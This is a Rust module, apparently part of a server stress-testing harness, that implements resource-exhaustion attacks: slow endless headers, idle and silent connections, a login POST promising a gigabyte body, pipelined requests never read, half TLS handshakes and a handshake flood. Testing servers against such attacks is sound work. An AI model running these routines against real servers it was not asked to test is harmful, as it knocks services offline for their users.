//! What people do who mean no good: very many connections that do little, or a few that do much.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::sync::mpsc::Sender;
use std::thread;
use std::time::Duration;

use crate::descriptors;
use crate::endpoint::Endpoint;
use crate::siege::{Siege, TICK};

/// Bytes of a slow head come so far apart: the limits on heads that people customarily set are longer.
const SLOW: Duration = Duration::from_secs(3);
/// What is promised, and never sent in full.
const GIGABYTE: usize = 1 << 30;
/// Requests that are sent without reading an answer, in one write.
const PIPELINED: usize = 32;
/// Threads that shake hands.
const FLOOD_THREADS: usize = 4;
/// A handshake that takes longer is given up.
const FLOOD_PATIENCE: Duration = Duration::from_secs(1);

/// The server as attackers know it.
pub struct Aim<'a> {
    pub endpoint: &'a Endpoint,
    /// Asks for its largest page.
    pub largest: Vec<u8>,
    /// The crowd is divided by this.
    pub divisor: usize,
}

/// One attack.
pub enum Attack {
    Nothing,
    Siege(Siege),
    /// Handshakes as fast as they go.
    Flood,
}

impl Attack {
    /// Goes on until it is over, and tells how it went. `ready` is dropped when it is in full swing.
    pub fn run(&self, endpoint: &Endpoint, sources: &[Ipv4Addr], ready: Sender<()>, over: &AtomicBool) -> String {
        match self {
            Attack::Nothing => String::new(),
            Attack::Siege(siege) => siege.run(endpoint.address, sources, ready, over),
            Attack::Flood => flood(endpoint, sources, ready, over),
        }
    }
}

pub fn nothing(_: &Aim<'_>) -> Attack {
    Attack::Nothing
}

pub fn flood_of_handshakes(_: &Aim<'_>) -> Attack {
    Attack::Flood
}

/// Heads that never end, a byte every few seconds.
pub fn slow_heads(aim: &Aim<'_>) -> Attack {
    let first = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Slow: ", aim.endpoint.address);
    aim.siege(Siege { first: vec![first.into_bytes()], more: b"a".to_vec(), every: SLOW, ..held(5_000) })
}

/// Connections that have asked once.
pub fn idle(aim: &Aim<'_>) -> Attack {
    let first = format!("GET /robots.txt HTTP/1.1\r\nHost: {}\r\n\r\n", aim.endpoint.address);
    aim.siege(Siege { first: vec![first.into_bytes()], ..held(5_000) })
}

/// Connections that have said nothing, more than there are descriptors.
pub fn many(_: &Aim<'_>) -> Attack {
    // Here the count is what matters, so it is never divided.
    Attack::Siege(Siege { every: 5 * TICK, ..held(200) })
}

/// Bodies of which little comes.
pub fn promises(aim: &Aim<'_>) -> Attack {
    let first = format!(
        "POST /accounts/login HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {GIGABYTE}\r\n\r\n",
        aim.endpoint.address
    );
    let more = vec![b'a'; 1_024];
    aim.siege(Siege { first: vec![first.into_bytes()], more, every: 2 * TICK, ..held(32) })
}

/// Clients that ask for the largest page again and again, and read nothing.
pub fn deaf(aim: &Aim<'_>) -> Attack {
    let more = aim.largest.repeat(PIPELINED);
    aim.siege(Siege { more, every: 2 * TICK, reads: false, ..held(20) })
}

/// TLS connections that say nothing, or half of what they should say first.
pub fn silent_handshakes(aim: &Aim<'_>) -> Attack {
    let hello = aim.endpoint.hello();
    let half = hello[..hello.len() / 2].to_vec();
    aim.siege(Siege { first: vec![Vec::new(), half], ..held(1_000) })
}

/// Connections that are held and say nothing more.
fn held(connections: usize) -> Siege {
    Siege { connections, first: vec![Vec::new()], more: Vec::new(), every: SLOW, reads: true }
}

impl Aim<'_> {
    fn siege(&self, siege: Siege) -> Attack {
        let connections = descriptors::connections(siege.connections.div_ceil(self.divisor));
        Attack::Siege(Siege { connections, ..siege })
    }
}

fn flood(endpoint: &Endpoint, sources: &[Ipv4Addr], ready: Sender<()>, over: &AtomicBool) -> String {
    let (done, failed) = (AtomicU64::new(0), AtomicU64::new(0));
    let shake_hands = |source: Ipv4Addr| {
        while !over.load(Relaxed) {
            let count = if endpoint.connect_from(source, FLOOD_PATIENCE).is_ok() { &done } else { &failed };
            count.fetch_add(1, Relaxed);
        }
    };
    thread::scope(|scope| {
        let shake_hands = &shake_hands;
        for number in 0..FLOOD_THREADS {
            let source = sources[number % sources.len()];
            scope.spawn(move || shake_hands(source));
        }
        drop(ready);
    });
    format!("{} handshakes, {} refused", done.into_inner(), failed.into_inner())
}
